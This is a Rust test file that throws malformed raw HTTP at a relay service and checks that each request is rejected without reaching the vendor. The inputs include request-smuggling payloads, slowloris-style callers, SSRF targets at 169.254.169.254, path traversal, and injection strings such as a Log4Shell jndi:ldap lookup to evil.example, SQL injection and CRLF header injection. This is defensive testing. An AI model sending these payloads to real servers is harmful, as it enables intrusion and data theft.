//! Requests that no browser makes, byte by byte. Each gets an answer or a closed connection, none reaches the vendor twice
//! or changed, and the relay still works.

use std::time::{Duration, Instant};

use akiba_protocol::ProblemCode;
use axum::http::Method;
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::support::wait::PATIENCE;
use crate::support::{IDENTIFIER, Relay, TOKEN, link_request, problem, success, with_link_vendor};

const HEAD: &str = "POST /v1/customer HTTP/1.1\r\nhost: relay\r\ncontent-type: application/json\r\n";

/// Sends bytes. Returns what the relay sends until it closes the connection or is silent for a while.
async fn send(relay: &Relay, bytes: impl AsRef<[u8]>) -> String {
    let stream = TcpStream::connect(relay.address()).await.unwrap();
    let (mut reader, mut writer) = stream.into_split();
    let bytes = bytes.as_ref().to_vec();
    // The relay may close the connection before it has read everything.
    let writing = tokio::spawn(async move {
        let _ = writer.write_all(&bytes).await;
        writer
    });
    let mut said = Vec::new();
    let mut buffer = [0; 4_096];
    let silence = Duration::from_millis(1_500);
    while let Ok(Ok(count @ 1..)) = tokio::time::timeout(silence, reader.read(&mut buffer)).await {
        said.extend_from_slice(&buffer[..count]);
    }
    writing.abort();
    String::from_utf8_lossy(&said).into_owned()
}

/// Returns the statuses of the answers.
fn statuses(said: &str) -> Vec<u16> {
    said.split("HTTP/1.1 ").skip(1).map(|answer| answer[..3].parse().unwrap()).collect()
}

/// Fails if the relay does not answer.
async fn still_works(relay: &Relay) {
    assert_eq!(success(relay.request(Method::GET, "/healthz")).await, json!({ "status": "ok" }));
}

#[tokio::test]
async fn a_megabyte_body_is_rejected_by_its_length() {
    let (vendor, relay) = with_link_vendor(&[]).await;
    let started = Instant::now();
    let said = send(&relay, format!("{HEAD}content-length: 1048576\r\n\r\n{}", " ".repeat(1_048_576))).await;
    assert!(said.is_empty() || statuses(&said) == [413], "{said}");
    let said = send(&relay, format!("{HEAD}content-length: 1048576\r\n\r\n")).await;
    assert_eq!(statuses(&said), [413], "the relay does not wait for the body");
    let said = send(&relay, format!("{HEAD}content-length: 18446744073709551615\r\n\r\n")).await;
    assert!(matches!(statuses(&said)[..], [400 | 413 | 431]), "{said}");
    assert!(started.elapsed() < PATIENCE);
    assert!(vendor.seen().is_empty());
    still_works(&relay).await;
}

#[tokio::test]
async fn ten_thousand_headers_are_rejected() {
    let (vendor, relay) = with_link_vendor(&[]).await;
    for headers in ["a: b\r\n".repeat(10_000), "a: b\r\n".repeat(101), format!("a: {}\r\n", "b".repeat(20_000))] {
        let said = send(&relay, format!("{HEAD}{headers}content-length: 0\r\n\r\n")).await;
        // Or nothing: if bytes arrive while the relay closes, a reset overtakes the answer.
        assert!(said.is_empty() || statuses(&said) == [431], "{said:.200}");
    }
    assert!(vendor.seen().is_empty());
    still_works(&relay).await;
}

#[tokio::test]
async fn a_hundred_slow_callers_are_cut_off_and_block_nobody() {
    // All of them have one address, whose share is not what this test is about.
    let connections = ["--max-connections=101", "--max-connections-address=101"];
    let limits = ["--header-timeout=1s", "--body-timeout=1s", "--max-in-flight=2"];
    let (vendor, relay) = with_link_vendor(&[limits.as_slice(), &connections].concat()).await;
    let mut slow = Vec::new();
    for index in 0..100 {
        let mut stream = TcpStream::connect(relay.address()).await.unwrap();
        let start =
            if index % 2 == 0 { "POST /v1/cust".to_owned() } else { format!("{HEAD}content-length: 4000\r\n\r\n{{") };
        stream.write_all(start.as_bytes()).await.unwrap();
        slow.push(tokio::spawn(async move {
            let (mut reader, mut writer) = stream.into_split();
            let drip = tokio::spawn(async move {
                while writer.write_all(b" ").await.is_ok() {
                    tokio::time::sleep(Duration::from_millis(100)).await;
                }
            });
            let mut said = Vec::new();
            let ended = tokio::time::timeout(PATIENCE, reader.read_to_end(&mut said)).await;
            drip.abort();
            ended.expect("a slow caller is cut off").ok();
        }));
    }
    success(relay.link()).await;
    for caller in slow {
        caller.await.unwrap();
    }
    assert_eq!(vendor.seen().len(), 1);
}

#[tokio::test]
async fn half_closed_connections_are_freed() {
    let (_vendor, relay) = with_link_vendor(&["--max-connections=1", "--header-timeout=1s"]).await;
    let body = link_request().to_string();
    let cases = [
        String::new(),
        "GET /heal".to_owned(),
        format!("{HEAD}content-length: {}\r\n\r\n{{", body.len()),
        format!("{HEAD}content-length: {}\r\n\r\n{body}", body.len()),
    ];
    for bytes in cases {
        let mut stream = TcpStream::connect(relay.address()).await.unwrap();
        stream.write_all(bytes.as_bytes()).await.unwrap();
        // This side sends nothing more, and still reads.
        stream.shutdown().await.unwrap();
        let mut said = Vec::new();
        let ended = tokio::time::timeout(PATIENCE, stream.read_to_end(&mut said)).await;
        assert!(ended.is_ok(), "the connection stays open: {bytes}");
    }
    // The only connection is free again.
    still_works(&relay).await;
}

#[tokio::test]
async fn pipelined_requests_are_answered_in_order() {
    let (vendor, relay) = with_link_vendor(&[]).await;
    let body = link_request().to_string();
    let call = format!("{HEAD}content-length: {}\r\n\r\n{body}", body.len());
    let said = send(&relay, format!("{call}GET /nope HTTP/1.1\r\nhost: relay\r\n\r\n{call}")).await;
    assert_eq!(statuses(&said), [200, 404, 200]);
    assert_eq!(vendor.seen().len(), 2);
}

#[tokio::test]
async fn bad_chunks_are_rejected() {
    let (vendor, relay) = with_link_vendor(&["--body-timeout=500ms"]).await;
    let chunked = format!("{HEAD}transfer-encoding: chunked\r\n\r\n");
    for chunks in [
        "x\r\n{}\r\n0\r\n\r\n",
        "-1\r\n{}\r\n0\r\n\r\n",
        "0x2\r\n{}\r\n0\r\n\r\n",
        "ffffffffffffffff\r\n{}\r\n0\r\n\r\n",
        "fffffffffffffffff\r\n{}\r\n0\r\n\r\n",
        "2\n{}\n0\n\n",
        "2\r\n{}xx\r\n0\r\n\r\n",
        "5\r\n{}\r\n0\r\n\r\n",
    ] {
        let said = send(&relay, format!("{chunked}{chunks}")).await;
        assert!(statuses(&said).iter().all(|status| (400..500).contains(status)), "{chunks:?}: {said}");
    }
    let extension = format!("{chunked}2;{}\r\n{{}}\r\n0\r\n\r\n", "a".repeat(100_000));
    let said = send(&relay, extension).await;
    assert!(statuses(&said).iter().all(|status| (400..500).contains(status)), "{said}");
    assert!(vendor.seen().is_empty());
    still_works(&relay).await;
}

#[tokio::test]
async fn no_request_is_smuggled_in_a_body() {
    let (vendor, relay) = with_link_vendor(&["--body-timeout=500ms"]).await;
    let body = link_request().to_string();
    let length = body.len();
    let inner = "GET /healthz HTTP/1.1\r\nhost: relay\r\n\r\n";
    let short = format!("{HEAD}content-length: 4\r\n");
    for (what, bytes) in [
        ("CL.TE", format!("{short}transfer-encoding: chunked\r\n\r\n0\r\n\r\n{inner}")),
        ("TE.CL", format!("{HEAD}transfer-encoding: chunked\r\ncontent-length: 4\r\n\r\n0\r\n\r\n{inner}")),
        ("two lengths", format!("{HEAD}content-length: {length}\r\ncontent-length: 4\r\n\r\n{body}")),
        ("a list of lengths", format!("{HEAD}content-length: {length}, 4\r\n\r\n{body}")),
        ("a signed length", format!("{HEAD}content-length: +{length}\r\n\r\n{body}")),
        ("an unknown coding", format!("{HEAD}transfer-encoding: xchunked\r\n\r\n0\r\n\r\n{inner}")),
        ("two codings", format!("{HEAD}transfer-encoding: chunked, identity\r\n\r\n0\r\n\r\n{inner}")),
        ("a space before the colon", format!("{HEAD}content-length : {length}\r\n\r\n{body}")),
        ("a folded header", format!("{HEAD}transfer-encoding:\r\n chunked\r\n\r\n0\r\n\r\n{inner}")),
        ("a NUL in a header", format!("{HEAD}x-a: b\0c\r\ncontent-length: {length}\r\n\r\n{body}")),
        (
            "a bare CR in a header",
            format!("{HEAD}x-a: b\rtransfer-encoding: chunked\r\ncontent-length: {length}\r\n\r\n{body}"),
        ),
    ] {
        let said = send(&relay, bytes).await;
        let answered = statuses(&said);
        assert!(answered.len() <= 1, "{what}: the relay saw a second request: {said}");
        assert!(answered.iter().all(|status| (400..500).contains(status)), "{what}: {said}");
    }
    assert!(vendor.seen().is_empty());
    still_works(&relay).await;
}

#[tokio::test]
async fn malformed_targets_and_versions_are_rejected() {
    let (vendor, relay) = with_link_vendor(&[]).await;
    let body = link_request().to_string();
    let rest = format!(
        "host: relay\r\nconnection: close\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n{body}",
        body.len()
    );
    for line in [
        "CONNECT 169.254.169.254:80 HTTP/1.1",
        "CONNECT relay:443 HTTP/1.1",
        "POST * HTTP/1.1",
        "POST http://169.254.169.254/latest HTTP/1.1",
        "POST //evil.example/v1/customer HTTP/1.1",
        "POST /v1/customer/../../etc/passwd HTTP/1.1",
        "POST /v1/customer%2fverify HTTP/1.1",
        "POST /v1/customer%00 HTTP/1.1",
        "POST /v1/customer;a=b HTTP/1.1",
        "POST \\v1\\customer HTTP/1.1",
        "POST /v1/customer HTTP/3.7",
        "POST /v1/customer",
        "POST /v1/cust omer HTTP/1.1",
        "post /v1/customer HTTP/1.1",
        "PO\tST /v1/customer HTTP/1.1",
        "PRI * HTTP/2.0",
        "\x16\x03\x01\x02",
        "{}",
    ] {
        let said = send(&relay, format!("{line}\r\n{rest}")).await;
        assert!(statuses(&said).iter().all(|status| (400..500).contains(status)), "{line}: {said}");
    }
    let long = format!("POST /v1/customer?{} HTTP/1.1\r\n{rest}", "a".repeat(70_000));
    let said = send(&relay, long).await;
    assert!(statuses(&said).iter().all(|status| matches!(status, 414 | 431)), "{said}");
    assert!(vendor.seen().is_empty());
    still_works(&relay).await;
}

#[tokio::test]
async fn an_absolute_target_calls_only_the_relay() {
    let (vendor, relay) = with_link_vendor(&[]).await;
    let body = link_request().to_string();
    let rest = format!(
        "host: evil.example\r\nconnection: close\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n{body}",
        body.len()
    );
    let said = send(&relay, format!("POST http://evil.example/v1/customer HTTP/1.1\r\n{rest}")).await;
    assert_eq!(statuses(&said), [200], "{said}");
    let seen = vendor.seen();
    assert_eq!(seen[0].path, "/v1/customer");
    assert_eq!(seen[0].headers["host"], vendor.base.trim_start_matches("http://"));
}

/// Texts that would break out of their field if a program pasted them into another text.
fn break_outs() -> Vec<String> {
    let mut texts: Vec<String> = [
        "",
        " ",
        "\r\nset-cookie: a=b",
        "\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
        "\n{\"level\":\"INFO\",\"message\":\"request\",\"code\":\"ok\"}",
        "\u{1b}[2J\u{1b}[31mred",
        "\0",
        "a\0b",
        "\",\"type\":\"2\",\"x\":\"",
        "\u{202e}gpj.exe",
        "\u{feff}",
        "\u{2028}",
        "../../etc/passwd",
        "${jndi:ldap://evil.example/a}",
        "' OR 1=1 --",
        "{{7*7}}",
        "%0d%0aset-cookie:a=b",
    ]
    .map(str::to_owned)
    .into();
    texts.push("9".repeat(3_500));
    texts
}

#[tokio::test]
async fn injected_text_stays_in_its_field() {
    let (vendor, relay) = with_link_vendor(&[]).await;
    for text in break_outs() {
        for field in ["identifier", "selfie_filename"] {
            let mut body = link_request();
            body[field] = json!(text);
            let before = vendor.seen().len();
            let response = relay.post("/v1/customer", &body).send().await.unwrap();
            assert!(!response.headers().contains_key("set-cookie"));
            let status = response.status().as_u16();
            let said = response.text().await.unwrap();
            match status {
                200 => {
                    let seen = vendor.seen();
                    assert_eq!(seen.len(), before + 1);
                    assert_eq!(seen[before].body, body, "the vendor receives it unchanged");
                    assert_eq!(seen[before].headers["token"], TOKEN);
                }
                400 => {
                    assert!(!said.contains(IDENTIFIER) && (text.trim().is_empty() || !said.contains(&text)), "{said}")
                }
                _ => panic!("{status} for {text:?} in {field}"),
            }
        }
    }
}

#[tokio::test]
async fn deeply_nested_json_is_rejected() {
    let (vendor, relay) = with_link_vendor(&[]).await;
    let nested = |field: &str, open: &str, close: &str, depth: usize| {
        let value = format!("{}{}", open.repeat(depth), close.repeat(depth));
        format!("{{\"{field}\":{value},\"identifier\":\"{IDENTIFIER}\",\"type\":\"1\"}}")
    };
    let send = |body: String| {
        relay.request(Method::POST, "/v1/customer").header("content-type", "application/json").body(body)
    };
    for body in [nested("selfie_filename", "[", "]", 1_900), nested("type", "{\"a\":", "}", 500), "[".repeat(4_000)] {
        problem(send(body), ProblemCode::BadRequest).await;
    }
    for body in [
        format!("{{\"identifier\":\"{IDENTIFIER}\",\"type\":1e999}}"),
        "{\"identifier\":\"\\ud800\",\"type\":\"1\"}".to_owned(),
        "\u{feff}{}".to_owned(),
        "{\"identifier\":NaN}".to_owned(),
    ] {
        problem(send(body), ProblemCode::BadRequest).await;
    }
    let not_utf8 = relay.request(Method::POST, "/v1/customer").header("content-type", "application/json");
    problem(not_utf8.body(b"{\"identifier\":\"\xff\xfe\",\"type\":\"1\"}".to_vec()), ProblemCode::BadRequest).await;
    assert!(vendor.seen().is_empty());
    // An unknown field is dropped, whatever its value.
    success(send(nested("x", "[", "]", 1_900))).await;
    assert_eq!(vendor.seen()[0].body, json!({ "identifier": IDENTIFIER, "type": "1" }));
}
